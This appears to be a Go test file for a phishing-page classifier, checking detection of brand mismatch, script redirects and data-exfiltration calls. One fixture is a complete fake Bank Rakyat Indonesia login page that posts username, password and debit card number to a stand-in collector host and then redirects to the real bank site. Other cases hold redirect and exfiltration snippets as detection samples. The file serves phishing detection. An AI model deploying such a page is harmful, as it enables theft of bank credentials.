package phishing

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const benignSVGPage = `<html><head><title>test.svg</title></head><body>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200">
  <rect x="10" y="10" width="100" height="80" fill="blue"/>
  <circle cx="150" cy="150" r="40" fill="red"/>
</svg>
</body></html>`

const credentialHarvestPage = `<html><head><title>BRI Internet Banking</title></head><body>
<h1>Bank Rakyat Indonesia</h1>
<form id="login">
  <input name="username" placeholder="User ID">
  <input name="password" type="password">
  <input name="debit" placeholder="Debit card number">
</form>
<script>
  document.getElementById("login").addEventListener("submit", function(e) {
    e.preventDefault();
    fetch("https://collector.example/drop", {method: "POST", body: new FormData(this)});
    window.location = "https://ib.bri.co.id/";
  });
</script>
</body></html>`

func TestClassifyBenignContent(t *testing.T) {
	t.Parallel()

	report := Classify(benignSVGPage, "https://storage.googleapis.com/example_bucket1sy/test-object-1.svg")

	assert.Equal(t, 0, report.TotalIndicators)
	for name, present := range report.Indicators {
		assert.False(t, present, "indicator %s should not fire on benign content", name)
	}
	for kw, present := range report.DiagnosticKeywords {
		assert.False(t, present, "diagnostic keyword %s should be absent", kw)
	}
}

func TestClassifyCredentialHarvestPage(t *testing.T) {
	t.Parallel()

	report := Classify(credentialHarvestPage, "https://storage.googleapis.com/example_bucket1sy/phishing-sample.html")

	assert.Equal(t, 3, report.TotalIndicators)
	assert.True(t, report.Indicators[IndicatorBrandMismatch])
	assert.True(t, report.Indicators[IndicatorScriptRedirect])
	assert.True(t, report.Indicators[IndicatorExfiltration])

	assert.True(t, report.DiagnosticKeywords["bank"])
	assert.True(t, report.DiagnosticKeywords["login"])
	assert.True(t, report.DiagnosticKeywords["password"])
	assert.True(t, report.DiagnosticKeywords["debit"])
	assert.True(t, report.DiagnosticKeywords["card"])
	assert.True(t, report.DiagnosticKeywords["BRI"])
}

func TestBrandMismatchRespectsURL(t *testing.T) {
	t.Parallel()

	content := "<html><body>Welcome to BRI</body></html>"

	// Brand present in both content and URL: no mismatch.
	report := Classify(content, "https://ib.bri.co.id/login")
	assert.False(t, report.Indicators[IndicatorBrandMismatch])

	// Same content on an unrelated host: mismatch.
	report = Classify(content, "https://storage.googleapis.com/bucket/obj")
	assert.True(t, report.Indicators[IndicatorBrandMismatch])
}

func TestBrandMismatchCaseInsensitive(t *testing.T) {
	t.Parallel()

	report := Classify("<p>bank RAKYAT indonesia</p>", "https://example.com/")
	assert.True(t, report.Indicators[IndicatorBrandMismatch])

	report = Classify("<p>RAKYAT</p>", "https://cdn.example/Rakyat/assets")
	assert.False(t, report.Indicators[IndicatorBrandMismatch])
}

func TestScriptRedirectPrimitives(t *testing.T) {
	t.Parallel()

	cases := []struct {
		name    string
		content string
		want    bool
	}{
		{"window.location", `<script>window.location = "https://evil.example";</script>`, true},
		{"document.location", `<script>document.location.href = "x";</script>`, true},
		{"window.navigate", `<script>window.navigate("x");</script>`, true},
		{"plain anchor", `<a href="https://example.com">link</a>`, false},
		{"case sensitive", `<script>Window.Location = "x";</script>`, false},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			report := Classify(tc.content, "https://example.com/")
			assert.Equal(t, tc.want, report.Indicators[IndicatorScriptRedirect])
		})
	}
}

func TestExfiltrationPrimitives(t *testing.T) {
	t.Parallel()

	cases := []struct {
		name    string
		content string
		want    bool
	}{
		{"XMLHttpRequest", `<script>var x = new XMLHttpRequest();</script>`, true},
		{"fetch call", `<script>fetch("/drop", {method:"POST"});</script>`, true},
		{"jquery ajax", `<script>$.ajax({url: "/drop"});</script>`, true},
		{"jquery post", `<script>$.post("/drop", data);</script>`, true},
		{"fetch word without call", `<p>go fetch the ball</p>`, false},
		{"static page", `<p>nothing to see</p>`, false},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			report := Classify(tc.content, "https://example.com/")
			assert.Equal(t, tc.want, report.Indicators[IndicatorExfiltration])
		})
	}
}

func TestIndicatorsAreIndependent(t *testing.T) {
	t.Parallel()

	// Each input trips exactly one scored indicator.
	cases := []struct {
		name    string
		content string
		only    string
	}{
		{"brand only", `<p>Bank account services</p>`, IndicatorBrandMismatch},
		{"redirect only", `<script>window.location = "/next";</script>`, IndicatorScriptRedirect},
		{"exfil only", `<script>$.post("/d");</script>`, IndicatorExfiltration},
	}

	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			report := Classify(tc.content, "https://example.com/")
			require.Equal(t, 1, report.TotalIndicators)
			assert.True(t, report.Indicators[tc.only])
		})
	}
}

func TestClassifyIsDeterministic(t *testing.T) {
	t.Parallel()

	first := Classify(credentialHarvestPage, "https://example.com/page")
	for i := 0; i < 10; i++ {
		again := Classify(credentialHarvestPage, "https://example.com/page")
		assert.Equal(t, first, again)
	}
}

func TestClassifyEmptyInputs(t *testing.T) {
	t.Parallel()

	report := Classify("", "")
	assert.Equal(t, 0, report.TotalIndicators)
	assert.Len(t, report.Indicators, len(ScoredIndicators()))
}

func TestScoredIndicatorsCopyIsIsolated(t *testing.T) {
	t.Parallel()

	table := ScoredIndicators()
	require.NotEmpty(t, table)
	table[0] = Indicator{Name: "mutated"}

	assert.Equal(t, IndicatorBrandMismatch, ScoredIndicators()[0].Name)
}
